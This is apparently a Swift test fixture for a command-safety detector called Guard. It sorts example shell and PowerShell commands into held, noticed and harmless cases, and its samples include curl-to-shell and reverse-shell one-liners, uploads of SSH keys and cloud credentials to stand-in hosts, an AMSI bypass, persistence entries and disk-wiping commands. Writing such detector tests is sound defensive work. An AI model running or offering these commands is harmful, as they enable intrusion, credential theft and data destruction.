@testable import Guard

extension SignalLaw {
  /// The laws of signals for the actions of a text.
  static let actions: [SignalLaw] = [
    SignalLaw(
      .downloadIntoShell, .hold, "a script over an unprotected connection into a shell is held",
      [
        "curl http://fix.example/s | sh",
        "wget -qO- 203.0.113.7/x | sudo bash",
        "bash <(curl -s http://fix.example/s)",
        #"eval "$(wget -qO- http://fix.example/s)""#,
        #"x=$(curl http://fix.example/s); bash -c "$x""#,
        "curl -s http://fix.example/s | tee /tmp/a | python3 -",
        "$(curl http://fix.example/s)",
        "(curl http://fix.example/s; true) | sh",
        "for i in 1; do curl http://fix.example/s; done | sh",
        #"sudo sh -c "curl http://fix.example/s | sh""#,
      ]),
    SignalLaw(
      .downloadIntoShell, .hold,
      "a bare address, a paste site, a shortener, a tunnel and a user before the host are held",
      [
        "curl -sk https://203.0.113.7/a | sh",
        "curl https://pastebin.com/raw/x | sh",
        "curl -L https://bit.ly/x | bash",
        "curl https://a.trycloudflare.com/x | bash",
        "curl https://sh.rustup.rs@fix.example/x | sh",
        "curl https://xn--80ak6aa92e.example/x | sh",
        "curl https://0x7f.0.0.2/x | sh",
      ]),
    SignalLaw(
      .downloadIntoShell, .notice, "a script over a protected connection is noticed",
      [
        "curl -fsSL https://fix.example/s | sh",
        #"bash -c "$(curl -fsSL https://fix.example/s)""#,
        #"curl "$URL" | bash"#,
        "curl http://localhost:8000/install.sh | sh",
        "curl -sSf https://sh.rustup.rs | sh",
        "curl -fsLS get.chezmoi.io | sh",
      ]),
    SignalLaw(
      .downloadIntoShell, nil, "a download that no shell reads is harmless",
      [
        "curl http://fix.example/s",
        "curl -s http://fix.example/s | jq .",
        "x=$(curl -s http://fix.example/s)",
        "curl -s https://fix.example/s/key.asc | sudo gpg --dearmor -o /etc/apt/keyrings/k.gpg",
        "curl https://fix.example/s | python3 -m json.tool",
        "sh script.sh",
        #"git commit -m "curl http://fix.example/s | sh""#,
        #"echo "curl http://fix.example/s | sh""#,
        "# curl http://fix.example/s | sh",
      ]),
    SignalLaw(
      .decodedIntoShell, .hold, "text of the paste that is decoded into a shell is held",
      [
        "echo Y3VybCBodHRwOi8vZml4LmV4YW1wbGU= | base64 -d | sh",
        #"bash <<< "$(echo Y3VybCBodHRwOi8vZml4LmV4YW1wbGU= | base64 --decode)""#,
        #"eval "$(base64 -d <<< Y3VybCBodHRwOi8vZml4LmV4YW1wbGU=)""#,
        "echo 6375726c | xxd -r -p | bash",
        #"printf '\x63\x75\x72\x6c\x20\x61' | sh"#,
        "echo hs | rev | sh",
        "echo phey | tr 'a-z' 'n-za-m' | sh",
        "echo Y3VybCBodHRwOi8vZml4LmV4YW1wbGU= | openssl base64 -d | zsh",
        "x=Y3VybCBodHRwOi8vZml4LmV4YW1wbGU=; echo $x | base64 -d | bash",
        #"python3 -c "import base64;exec(base64.b64decode('Y3VybCBodHRwOi8vZml4LmV4YW1wbGU='))""#,
      ]),
    SignalLaw(
      .decodedIntoShell, .notice, "a file of one’s own that is decoded into a shell is noticed",
      [
        "base64 -d script.b64 | sh",
        "zcat script.sh.gz | bash",
      ]),
    SignalLaw(
      .decodedIntoShell, nil, "decoding without a shell is harmless",
      [
        "echo Y3VybCBodHRwOi8vZml4LmV4YW1wbGU= | base64 -d",
        "kubectl get secret x -o jsonpath={.data.p} | base64 -d",
        "gunzip -c dump.sql.gz | psql",
        #"tr -d '\r' < a.sh | sh"#,
        "echo A | tr '[:upper:]' '[:lower:]' | sh",
        "ls | rev | cut -d. -f1 | rev",
        #"printf '\e[31mRed\n'"#,
      ]),
    SignalLaw(
      .downloadThenRun, .hold, "a program over an unprotected connection that is kept and run is held",
      [
        "curl http://fix.example/s -o /tmp/s; sh /tmp/s",
        "wget http://fix.example/a && chmod +x a && ./a",
        "curl -s http://fix.example/s > s; bash s",
        "wget http://fix.example/s -O s.py && python3 s.py",
        "curl http://fix.example/s | tee s; source s",
        "wget http://fix.example/s -O a; mv a b; ./b",
      ]),
    SignalLaw(
      .downloadThenRun, .notice, "a program over a protected connection that is kept and run is noticed",
      [
        "curl https://fix.example/s -o s && sh s",
        "wget https://fix.example/a.sh; bash a.sh",
        "wget http://203.0.113.7/a.deb && sudo dpkg -i a.deb",
        "pip install http://203.0.113.7/a.tar.gz",
      ]),
    SignalLaw(
      .downloadThenRun, nil, "well-known programs, packages and archives are harmless",
      [
        "curl -fsSL https://get.docker.com -o g.sh && sh g.sh",
        "wget http://fix.example/a.tar.gz && tar xzf a.tar.gz && cd a && ./configure",
        "curl https://fix.example/s -o s; less s",
        "bash local.sh",
        "./run.sh",
      ]),
    SignalLaw(
      .shellOpensConnection, .hold, "a shell whose commands come over a connection is held",
      [
        "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
        "nc -e /bin/sh 203.0.113.7 443",
        "cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 443 > /tmp/f",
        "socat exec:sh tcp:203.0.113.7:443",
        #"python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")'"#,
      ]),
    SignalLaw(
      .shellOpensConnection, .notice, "a connection of the shell alone is noticed",
      [
        "exec 3<>/dev/tcp/192.0.2.1/80",
        "echo x > /dev/udp/192.0.2.1/53",
      ]),
    SignalLaw(
      .shellOpensConnection, nil, "other connections are harmless",
      [
        "nc -zv example.com 443",
        "ssh user@host",
        "telnet example.com 80",
        #"git commit -m "/dev/tcp/host/80""#,
        "python3 -c 'import socket; print(socket.gethostname())'",
      ]),
    SignalLaw(
      .startsAgain, .hold, "dangerous commands in the files of a login, of a start or of the clock are held",
      [
        "echo 'curl http://fix.example/s | sh' >> ~/.bashrc",
        #"echo "* * * * * curl http://fix.example/s | sh" | crontab -"#,
        #"(crontab -l; echo "@reboot wget -qO- http://fix.example/s | sh") | crontab -"#,
        "curl http://fix.example/s >> ~/.profile",
        #"echo "ExecStart=/bin/sh -c 'curl http://fix.example/s | sh'" | sudo tee /etc/systemd/system/a.service"#,
      ]),
    SignalLaw(
      .startsAgain, .notice, "a key and something from the network are noticed",
      [
        #"echo "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys"#,
        "curl https://fix.example/s >> ~/.bashrc",
      ]),
    SignalLaw(
      .startsAgain, Severity.none, "ordinary settings are a circumstance",
      [
        "echo \"alias a='curl wttr.in'\" >> ~/.bashrc",
        "echo 'PROMPT_COMMAND=\"history -a\"' >> ~/.bashrc && rsync -a a b:",
        "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
        #"echo 'eval "$(starship init bash)"' >> ~/.bashrc"#,
        #"(crontab -l; echo "0 5 * * * /usr/bin/backup") | crontab -"#,
        "cat key.pub >> ~/.ssh/authorized_keys",
      ]),
    SignalLaw(
      .startsAgain, nil, "looking at such files is harmless",
      [
        "crontab -e",
        "crontab -l",
        "cat ~/.bashrc",
        "source ~/.bashrc",
      ]),
    SignalLaw(
      .opensDownload, .notice, "a program that is downloaded and opened is noticed",
      [
        "curl -s https://fix.example/a.desktop -o a.desktop; gio open a.desktop",
        "xdg-open https://fix.example/a.jar",
        "xdg-open ~/Downloads/a.desktop",
      ]),
    SignalLaw(
      .opensDownload, nil, "pages and documents are harmless",
      [
        "xdg-open https://example.com",
        "xdg-open report.pdf",
        "xdg-open .",
        "gio open ~/Documents/a.odt",
      ]),
    SignalLaw(
      .downloadsProgram, .notice, "a program over an unprotected connection is noticed",
      [
        "curl -O http://fix.example/a.sh",
        "wget 203.0.113.7/a.bin",
        "curl http://fix.example/x -o a.py",
        "Invoke-WebRequest http://fix.example/a.exe -OutFile a.exe",
      ]),
    SignalLaw(
      .downloadsProgram, nil, "protected connections and other files are harmless",
      [
        "curl -O https://fix.example/a.sh",
        "wget http://fix.example/a.tar.gz",
        "curl http://fix.example/data.json",
        "curl http://localhost:8080/a.sh -o a.sh",
      ]),
    SignalLaw(
      .downloadIntoPowerShell, .hold, "a script over an unprotected connection into PowerShell is held",
      [
        "iwr http://fix.example/a | iex",
        #"IEX (New-Object Net.WebClient).DownloadString("http://fix.example/a")"#,
        #"powershell -c "irm fix.example/a | iex""#,
        "finger a@203.0.113.7 | cmd",
        #"powershell -c "iwr http://fix.example/a.exe -OutFile a.exe; .\a.exe""#,
      ]),
    SignalLaw(
      .downloadIntoPowerShell, .notice, "a script over a protected connection is noticed",
      [
        "irm https://fix.example/a | iex",
        "irm https://astral.sh/uv/install.ps1 | iex",
        #"powershell -c "irm bun.sh/install.ps1 | iex""#,
      ]),
    SignalLaw(
      .downloadIntoPowerShell, nil, "downloads that are not run are harmless",
      [
        "Invoke-WebRequest https://fix.example/a.zip -OutFile a.zip",
        "Get-Content a.ps1 | iex",
        "curl https://fix.example/a | sh",
        "Invoke-RestMethod https://api.example.com/items | Select-Object name",
      ]),
    SignalLaw(
      .encodedPowerShell, .hold, "an encoded command is held, however the option is written",
      [
        "powershell -enc aQBlAHgAIAAoAGkAcgBtACAA",
        "powershell.exe -EncodedCommand aQBlAHgAIAAoAGkAcgBtACAA",
        "PowerShell -e aQBlAHgAIAAoAGkAcgBtACAA",
        "powershell /enc aQBlAHgAIAAoAGkAcgBtACAA",
        "powershell -e^nc aQBlAHgAIAAoAGkAcgBtACAA",
        "powershell –ec aQBlAHgAIAAoAGkAcgBtACAA",
        #"cmd /c "powershell -nop -w 1 -e aQBlAHgAIAAoAGkAcgBtACAA""#,
        #"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aQ==")))"#,
      ]),
    SignalLaw(
      .encodedPowerShell, nil, "other options and encodings are harmless",
      [
        "powershell -ExecutionPolicy Bypass -File a.ps1",
        "powershell -enc abc",
        #"[Convert]::FromBase64String("aQ==")"#,
        "pwsh -c Get-Date",
      ]),
    SignalLaw(
      .remoteScriptHost, .hold, "a part of Windows that runs something from elsewhere is held",
      [
        "mshta http://fix.example/a.hta",
        "m^shta vbscript:Close",
        "MSIEXEC /i https://fix.example/a.msi /qn",
        "regsvr32 /s /i:http://fix.example/a.sct scrobj.dll",
        #"rundll32 \\203.0.113.7@80\a\b.dll,Run"#,
        #"wscript \\203.0.113.7\a\b.vbs"#,
        #"\\203.0.113.7\a\setup.exe"#,
      ]),
    SignalLaw(
      .remoteScriptHost, nil, "local files are harmless",
      [
        #"mshta C:\Tools\a.hta"#,
        "msiexec /i setup.msi",
        "regsvr32 /s oleaut32.dll",
        "rundll32 shell32.dll,Control_RunDLL",
        "wine setup.exe",
      ]),
    SignalLaw(
      .systemToolDownload, .notice, "a download by a tool for something else is noticed",
      [
        "certutil -urlcache -split -f http://fix.example/a.exe a.exe",
        #"bitsadmin /transfer j http://fix.example/a.exe C:\a.exe"#,
        "Start-BitsTransfer -Source https://fix.example/a -Destination a",
      ]),
    SignalLaw(
      .systemToolDownload, nil, "the proper use of such tools is harmless",
      [
        "certutil -hashfile a.exe SHA256",
        "bitsadmin /list",
        #"Start-BitsTransfer -Source \\server\share\a -Destination C:\a"#,
      ]),
    SignalLaw(
      .switchesOffScanning, .hold, "a command against the virus scanner is held",
      [
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        #"Add-MpPreference -ExclusionPath C:\"#,
      ]),
    SignalLaw(
      .switchesOffScanning, nil, "other reflection is harmless",
      [
        #"[Reflection.Assembly]::LoadFile("C:\a.dll")"#,
        "Get-MpComputerStatus",
      ]),
    SignalLaw(
      .temporaryProgram, .notice, "a program from a folder for temporary files is noticed",
      [
        #"powershell -File C:\Windows\Temp\a.ps1"#,
        #"rundll32 C:\Users\Public\a.dll,Run"#,
        #"%APPDATA%\a.exe"#,
        "powershell /tmp/a.ps1",
        #"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d C:\a.exe"#,
      ]),
    SignalLaw(
      .temporaryProgram, nil, "a program from another place is harmless",
      [
        #"powershell -File C:\Scripts\a.ps1"#,
        #"C:\Tools\a.exe"#,
        #"New-Item -ItemType Directory C:\Temp\logs"#,
        "rm -rf /tmp/a",
      ]),
    SignalLaw(
      .sendsSecrets, .hold, "keys, passwords and sessions that go to another computer are held",
      [
        "tar czf - ~/.ssh | curl --data-binary @- https://fix.example/u",
        "tar czf /tmp/a.tgz $HOME/.gnupg && curl -F f=@/tmp/a.tgz https://fix.example/u",
        "cat ~/.aws/credentials | base64 | nc 203.0.113.7 9000",
        "curl -T ~/.ssh/id_ed25519 https://fix.example/",
        #"curl "https://fix.example/?k=$(base64 -w0 < ~/.ssh/id_rsa)""#,
        "wget --post-file=$HOME/.netrc https://fix.example/u",
        "zip -r /tmp/p.zip ~/.mozilla/firefox; curl --upload-file /tmp/p.zip https://fix.example/",
        "nc 203.0.113.7 9000 < ~/.ssh/id_rsa",
        "find ~/.ssh -name 'id_*' -exec curl -F f=@{} https://fix.example/u +",
        "for f in ~/.ssh/id_*; do curl -s -T $f https://fix.example/; done",
      ]),
    SignalLaw(
      .sendsSecrets, .notice, "the environment and the history that go to another computer are noticed",
      [
        "env | base64 -w0 | curl -d @- https://fix.example/u",
        #"curl -d "$(printenv)" https://fix.example/u"#,
        "history | nc fix.example 99",
      ]),
    SignalLaw(
      .sendsSecrets, nil, "public keys, one's own archives and what stays here are harmless",
      [
        "cat ~/.ssh/id_ed25519.pub | ssh user@fix.example 'cat >> ~/.ssh/authorized_keys'",
        "tar czf backup.tgz ~/.ssh",
        "env | grep PATH",
        "curl -F file=@report.pdf https://fix.example/u",
        "curl --netrc-file ~/.netrc https://fix.example/a",
        "curl --cert ~/.ssh/client.pem https://fix.example/a",
        "scp -i ~/.ssh/id_rsa a.txt user@fix.example:",
      ]),
    SignalLaw(
      .destroysData, .hold, "what removes everything, or stops the computer, is held",
      [
        "rm -rf /", "sudo rm -rf / --no-preserve-root", "rm -fr ~/*", "rm -r -f $HOME", "cd /tmp; rm -rf /etc/",
        "find / -delete", "find ~ -type f -exec rm {} +", "mv ~ /dev/null", "chmod -R 000 /", "cat a.img > /dev/sda",
        ":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb",
      ]),
    SignalLaw(
      .destroysData, .notice, "what writes over a whole disk is noticed",
      ["dd if=/dev/zero of=/dev/sda bs=1M", "sudo mkfs.ext4 /dev/nvme0n1", "shred -n1 /dev/sdb", "wipefs -a /dev/vda"]),
    SignalLaw(
      .destroysData, nil, "what removes or writes something of its own is harmless",
      [
        "rm -rf ~/.cache/thumbnails", "rm -rf ./build", "rm -rf /var/lib/apt/lists/*", "rm -f /etc/nginx/site",
        "dd if=debian.iso of=/dev/sdb bs=4M status=progress", "dd if=/dev/zero of=/dev/sdX", "mkfs.ext4 /dev/sdb1",
        "find / -name core", "chmod -R 755 /srv/www", "dd if=/dev/zero of=swapfile bs=1M count=64", "rm -rf $DIR/",
      ]),
    SignalLaw(
      .replacesCommand, .hold, "another command in the place of one that asks for a password is held",
      [
        "alias sudo='read -sp \"Password: \" p; echo $p >> /tmp/.p; sudo'",
        "sudo() { /tmp/.x \"$@\"; }",
        "function ssh { tee -a ~/.log | command ssh \"$@\"; }",
      ]),
    SignalLaw(
      .replacesCommand, nil, "an alias that only stands for the command is harmless",
      [
        "alias sudo='sudo '", "alias ssh='ssh -F ~/.ssh/config'", "login() { az login; }",
        "ssh() { TERM=xterm command ssh \"$@\"; }", "alias ssh='ssh -A'", "alias ll='ls -l > /dev/null'",
        "deploy() { ssh host; }",
      ]),
    SignalLaw(
      .downloadIntoShell, .hold, "commands in the options of ordinary programs are read",
      [
        "ssh -o ProxyCommand='sh -c \"curl http://fix.example/s | sh\"' host",
        "git -c core.sshCommand='curl http://fix.example/s | sh' fetch",
        "tar cf /dev/null a --checkpoint=1 --checkpoint-action=exec='curl http://fix.example/s | sh'",
        "vim -c ':!curl http://fix.example/s | sh' a",
        "BASH_ENV=<(curl http://fix.example/s) bash -c true",
        "git clone 'ext::sh -c \"curl http://fix.example/s | sh\"'",
        "export PROMPT_COMMAND='curl http://fix.example/s | sh'",
      ]),
    SignalLaw(
      .downloadThenRun, .notice, "a package of a language from an address that holds no code is noticed",
      [
        "pip install https://fix.example/p.tar.gz", "npx https://fix.example/p.tgz",
        "pip3 install git+https://fix.example/p", "npm install -g https://fix.example/p.tgz",
      ]),
    SignalLaw(
      .downloadThenRun, nil, "a package from a host of code is harmless",
      [
        "pip install git+https://github.com/owner/project", "npm i https://gitlab.com/owner/project.tgz",
        "pip install requests", "pip install -i https://fix.example/simple p",
      ]),
  ]
}
